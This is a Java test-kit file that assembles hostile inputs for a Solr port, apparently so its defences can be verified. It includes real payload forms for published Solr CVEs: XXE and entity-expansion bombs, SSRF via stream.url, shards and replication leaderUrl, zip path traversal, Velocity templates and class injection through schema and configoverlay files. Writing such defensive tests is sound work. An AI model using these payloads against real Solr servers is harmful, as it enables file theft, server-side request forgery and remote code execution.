package io.uniserve.port.solr;

import io.uniserve.api.Document;
import io.uniserve.testkit.tck.HostileCode;
import io.uniserve.testkit.tck.HostileInput;
import io.uniserve.testkit.tck.HostileTargets;
import io.uniserve.testkit.tck.TckQuery;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Inputs of published faults of Solr, and others of their kinds. */
final class SolrHostileInputs {
    private static final String SCHEMA = """
            <schema name="own" version="1.6"><uniqueKey>id</uniqueKey>
              <fieldType name="string" class="solr.StrField" docValues="true"/>
              <fieldType name="int" class="solr.IntPointField" docValues="true"/>
              <fieldType name="words" class="solr.TextField"><analyzer><tokenizer name="standard"/></analyzer></fieldType>
              <field name="id" type="string"/><field name="text" type="words"/><field name="n_i" type="int"/>
              <dynamicField name="*_s" type="string"/>
            </schema>""";

    private final HostileTargets targets;
    private final Function<String, TckQuery<?, ?>> shard;
    private final List<HostileInput> all = new ArrayList<>();

    private SolrHostileInputs(HostileTargets targets, Function<String, TckQuery<?, ?>> shard) {
        this.targets = targets;
        this.shard = shard;
    }

    /**
     * Returns the inputs.
     *
     * @param shard returns a call of the operator for shard requests with these parameters
     */
    static List<HostileInput> of(HostileTargets targets, Function<String, TckQuery<?, ?>> shard) {
        SolrHostileInputs inputs = new SolrHostileInputs(targets, shard);
        inputs.addParameters();
        inputs.addHandlers();
        inputs.addParsers();
        inputs.addFiles();
        inputs.addSchemas();
        inputs.addClasses();
        inputs.addReferences();
        inputs.addRows();
        return inputs.all;
    }

    private String host() {
        return targets.url().replaceAll("http://|/", "");
    }

    /** Adds a query, for the planner and as a shard request. */
    private void add(String name, String query, String... named) {
        all.add(HostileInput.query(name, query, named));
        all.add(HostileInput.call(name + ", shard request", shard.apply(query), named));
    }

    /** Adds a query whose parameters no shard request reads. */
    private void addUnread(String name, String query, String named) {
        all.add(HostileInput.query(name, query, named));
        all.add(HostileInput.call(name + ", shard request", shard.apply(query)));
    }

    private void addParameters() {
        String file = targets.canary().toUri().toString();
        add("remote streaming", "q=*:*&stream.url=" + file, "stream.url");
        add("remote streaming", "q=*:*&stream.url=" + targets.url(), "stream.url");
        add("remote streaming", "q=*:*&stream.file=" + targets.canary(), "stream.file");
        add("CVE-2017-12629 body", "q=*:*&stream.body={\"add-listener\":{}}", "stream.body");
        add("CVE-2021-27905 shards", "q=*:*&shards=" + host() + "/solr", "shards");
        add("CVE-2021-27905 shards.qt", "q=*:*&shards.qt=/admin/cores", "shards.qt");
        add("shards in JSON", "json={params:{shards:\"" + host() + "/solr\"},query:\"*:*\"}", "");
        add("stream.url in JSON", "json={params:{\"stream.url\":\"" + file + "\"},query:\"*:*\"}", "");
        addUnread("CVE-2019-17558 velocity", "q=*:*&wt=velocity&v.template=a&v.template.a=#set($x=1)", "v.template");
        addUnread("XSLT", "q=*:*&wt=xslt&tr=" + HostileTargets.traversal(targets.canary()), "wt");
        add("collection elsewhere", "q=*:*&collection=other", "collection");
        add("distribution", "q=*:*&distrib=true", "distrib");
        add("parameter sets", "q=*:*&useParams=a", "useParams");
        addUnread("zkHost", "q=*:*&zkHost=" + host(), "zkHost");
    }

    private void addHandlers() {
        String leader = "leaderUrl=" + targets.url() + "solr/x";
        add("CVE-2021-27905 replication", "qt=/replication&command=fetchindex&wait=true&" + leader, "qt", "/select");
        add(
                "CVE-2021-27905 masterUrl",
                "qt=/replication&command=fetchindex&wait=true&masterUrl=" + targets.url(),
                "qt");
        add(
                "CVE-2023-50386 backup",
                "qt=/replication&command=backup&location=" + targets.target().getParent(),
                "qt");
        add(
                "replication filecontent",
                "qt=/replication&command=filecontent&generation=1&file=" + HostileTargets.traversal(targets.canary()),
                "qt");
        add("CVE-2019-17558 config", "qt=/config", "qt");
        add("schema API", "qt=/schema", "qt");
        add("file API", "qt=/admin/file&file=solrconfig.xml", "qt");
        add("system properties", "qt=/admin/system", "qt");
        add("logging API", "qt=/admin/logging", "qt");
        add("dump", "qt=/debug/dump&stream.file=" + targets.canary(), "");
        add("streaming expression", "qt=/stream&expr=cat(\"" + targets.canary() + "\")", "");
        add("update", "qt=/update&stream.body=<add/>", "");
        add("sql", "qt=/sql&stmt=select 1", "");
        add("dataimport CVE-2019-0193", "qt=/dataimport&command=full-import&dataConfig=<dataConfig/>", "");
        add(
                "handler in JSON",
                "json={params:{qt:\"/replication\",command:fetchindex,leaderUrl:\"" + targets.url() + "\"}}",
                "");
    }

    /** Adds a query in XML; Solr's own parser refuses entities in a shard request. */
    private void addXml(String name, String xml) {
        String query = "df=text&q={!xmlparser v=\"" + xml.replace("&", "%26") + "\"}";
        all.add(HostileInput.query(name, query, "DOCTYPE"));
        all.add(HostileInput.call(name + ", shard request", shard.apply(query), ""));
    }

    private void addParsers() {
        String entity = "<!DOCTYPE a SYSTEM '" + targets.url() + "a.dtd'><a></a>";
        String file = "<!DOCTYPE a [<!ENTITY e SYSTEM '" + targets.canary().toUri() + "'>]><TermQuery>&e;</TermQuery>";
        addXml("CVE-2017-12629 XXE", entity);
        addXml("CVE-2017-12629 XXE file", file);
        add("XXE by defType", "q=" + entity + "&defType=xmlparser", "");
        add("XXE by escapes", "df=text&q={!xmlparser v=\"" + entity.replace("<", "\\u003c") + "\"}", "");
        StringBuilder bomb = new StringBuilder("<!DOCTYPE a [<!ENTITY l0 'lol'>");
        for (int i = 1; i < 10; i++) {
            bomb.append("<!ENTITY l")
                    .append(i)
                    .append(" '")
                    .append(("&l" + (i - 1) + ";").repeat(10))
                    .append("'>");
        }
        addXml("entity expansion", bomb + "]><TermQuery fieldName='text'>&l9;</TermQuery>");
        add("join of another core", "q={!join fromIndex=core-1 from=id to=id}*:*", "join");
        add("hidden parser", "q=*:*&fq={!type='\\u006aoin' fromIndex=core-1 from=id to=id}*:*", "join");
        add("parser by parameter", "q={!type=$p from=id to=id fromIndex=core-1}x&p=join", "");
        add("subquery", "q=*:*&fl=id,a:[subquery]", "");
        all.add(HostileInput.query("name of a core", "q=*:*&fl=id,[core]", "fl"));
        add("macro", "q=*:*&qt=${x:/replication}&command=details", "");
    }

    private static String packed(Map<String, String> files) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, String> file : files.entrySet()) {
                zip.putNextEntry(new ZipEntry(file.getKey()));
                zip.write(file.getValue().getBytes(StandardCharsets.UTF_8));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return Base64.getEncoder().encodeToString(bytes.toByteArray());
    }

    private void addFile(String name, String file, String content, String... named) {
        Map<String, String> files = new LinkedHashMap<>(Map.of("schema.xml", SCHEMA));
        files.put(file, content);
        all.add(HostileInput.options(name, Map.of("configset", packed(files)), named));
    }

    private void addSchema(String name, String what, String with, String... named) {
        if (!SCHEMA.contains(what)) {
            throw new IllegalArgumentException(what);
        }
        addFile(name, "schema.xml", SCHEMA.replace(what, with), named);
    }

    private void addFiles() {
        String overlay = "{\"requestHandler\":{\"/select\":{\"name\":\"/select\",\"class\":\""
                + HostileCode.class.getName() + "\"}}}";
        addFile("overlay CVE-2019-17558", "configoverlay.json", overlay, "configoverlay.json");
        addFile(
                "overlay of a default",
                "configoverlay.json",
                "{\"props\":{\"query\":{\"useColdSearcher\":false}}}",
                "configoverlay.json");
        addFile("parameter sets", "params.json", "{\"params\":{}}", "params.json");
        addFile(
                "properties of the core",
                "solrcore.properties",
                "solr.data.dir=" + targets.target(),
                "solrcore.properties");
        addFile("CVE-2023-50386 class", "lib/a.jar", "PK", "lib/a.jar");
        addFile("CVE-2023-50386 class", "io/uniserve/A.class", "\u00ca\u00fe", "A.class");
        addFile("traversal", "../../../../../../../../../../../../" + targets.target(), "x", "leaves");
        addFile("absolute path", targets.target().toString(), "x", "leaves");
        addFile(
                "data import CVE-2019-0193",
                "data-config.xml",
                "<dataConfig><script>x</script></dataConfig>",
                "data-config.xml");
        addFile("velocity template", "velocity/a.vm", "#set($x=1)", "velocity/a.vm");
        addFile("managed resources", "_rest_managed.json", "{}", "_rest_managed.json");
    }

    private void addSchemas() {
        addSchema(
                "external DTD",
                "<schema name",
                "<!DOCTYPE schema SYSTEM \"" + targets.url() + "a.dtd\"><schema name",
                "DOCTYPE");
        addSchema(
                "external entity",
                "<schema name=\"own\"",
                "<!DOCTYPE schema [<!ENTITY e SYSTEM \"" + targets.canary().toUri() + "\">]><schema name=\"&e;\"",
                "DOCTYPE");
        addSchema(
                "entity expansion",
                "<schema name=\"own\"",
                "<!DOCTYPE schema [<!ENTITY a \"aaaa\">" + "<!ENTITY b \"&a;&a;\">]><schema name=\"&b;\"",
                "DOCTYPE");
        addSchema(
                "inclusion",
                "</schema>",
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\"" + " href=\""
                        + targets.canary().toUri() + "\"/></schema>",
                "include");
        addSchema(
                "inclusion",
                "</schema>",
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + targets.url() + "\"/></schema>",
                "include");
    }

    private void addClasses() {
        addSchema(
                "class of the class path",
                "class=\"solr.StrField\"",
                "class=\"" + HostileCode.class.getName() + "\"",
                HostileCode.class.getName());
        addSchema(
                "similarity of the class path",
                "</schema>",
                "<similarity class=\"" + HostileCode.class.getName() + "\"/></schema>",
                HostileCode.class.getName());
        addSchema(
                "filter of the class path",
                "<tokenizer name=\"standard\"/>",
                "<tokenizer name=\"standard\"/>" + "<filter class=\"" + HostileCode.class.getName() + "\"/>",
                HostileCode.class.getName());
        addSchema(
                "analyzer of the class path",
                "<analyzer><tokenizer name=\"standard\"/></analyzer>",
                "<analyzer class=\"" + HostileCode.class.getName() + "\"/>",
                HostileCode.class.getName());
        addSchema(
                "parser of the class path",
                "</schema>",
                "<fieldType name=\"pre\" class=\"solr.PreAnalyzedField\"" + " parserImpl=\""
                        + HostileCode.class.getName() + "\"/></schema>",
                HostileCode.class.getName());
        addSchema("class of a package", "class=\"solr.StrField\"", "class=\"own:a.B\"", "own:a.B");
        addSchema(
                "rates from a URL",
                "</schema>",
                "<fieldType name=\"money\" class=\"solr.CurrencyFieldType\""
                        + " amountLongSuffix=\"_l\" codeStrSuffix=\"_s\" providerClass=\"solr.OpenExchangeRatesOrgProvider\""
                        + " ratesFileLocation=\"" + targets.url()
                        + "rates.json\"/><dynamicField name=\"*_l\" type=\"int\"/>"
                        + "</schema>",
                "OpenExchangeRatesOrgProvider");
        addSchema(
                "rates of the class path",
                "</schema>",
                "<fieldType name=\"money\" class=\"solr.CurrencyFieldType\""
                        + " amountLongSuffix=\"_l\" codeStrSuffix=\"_s\" providerClass=\"" + HostileCode.class.getName()
                        + "\"/></schema>",
                HostileCode.class.getName());
    }

    private void addReferences() {
        String canary = targets.canary().toString();
        addSchema(
                "values from a file",
                "</schema>",
                "<fieldType name=\"rank\" class=\"solr.ExternalFileField\""
                        + " keyField=\"id\" defVal=\"0\"/><field name=\"r\" type=\"rank\"/></schema>",
                "ExternalFileField");
        addSchema(
                "synonyms of a path",
                "<tokenizer name=\"standard\"/>",
                "<tokenizer name=\"standard\"/>" + "<filter name=\"synonymGraph\" synonyms=\"" + canary + "\"/>",
                "synonyms");
        addSchema(
                "stop words of a path",
                "<tokenizer name=\"standard\"/>",
                "<tokenizer name=\"standard\"/>" + "<filter name=\"stop\" words=\""
                        + HostileTargets.traversal(targets.canary()) + "\"/>",
                "words");
        addSchema(
                "stop words of a URL",
                "<tokenizer name=\"standard\"/>",
                "<tokenizer name=\"standard\"/>" + "<filter name=\"stop\" words=\"" + targets.url() + "\"/>",
                "words");
        addSchema(
                "stop words of the class path",
                "<tokenizer name=\"standard\"/>",
                "<tokenizer name=\"standard\"/>"
                        + "<filter name=\"stop\" words=\"io/uniserve/port/solr/language.txt\"/>",
                "words");
        addSchema(
                "managed words",
                "<tokenizer name=\"standard\"/>",
                "<tokenizer name=\"standard\"/>" + "<filter name=\"managedStop\" managed=\"english\"/>",
                "managedStop");
        addSchema(
                "system property",
                "<field name=\"text\" type=\"words\"/>",
                "<field name=\"text\" type=\"words\" default=\"${java.home}\"/>",
                "${java.home}");
        addSchema("environment", "name=\"own\"", "name=\"${env:PATH:x}\"", "${env:PATH:x}");
    }

    private void addRows() {
        String file = targets.canary().toUri().toString();
        all.add(HostileInput.update(
                "deletion by a parser of files",
                "solr.delete-query@1",
                new Document("id", Map.of("query", "{!xmlparser}<!DOCTYPE a SYSTEM '" + targets.url() + "'><a/>")),
                "query"));
        all.add(HostileInput.update(
                "deletion by a join",
                "solr.delete-query@1",
                new Document("id", Map.of("query", "{!join fromIndex=core-1 from=id to=id}*:*")),
                "join"));
        all.add(HostileInput.update(
                "injected field",
                "solr.add@1",
                new Document("id", Map.of("id", "a", "text", Map.of("stream.url", file))),
                "text"));
        all.add(HostileInput.update("empty name", "solr.add@1", new Document("id", Map.of("id", "a", "", "b")), ""));
    }
}
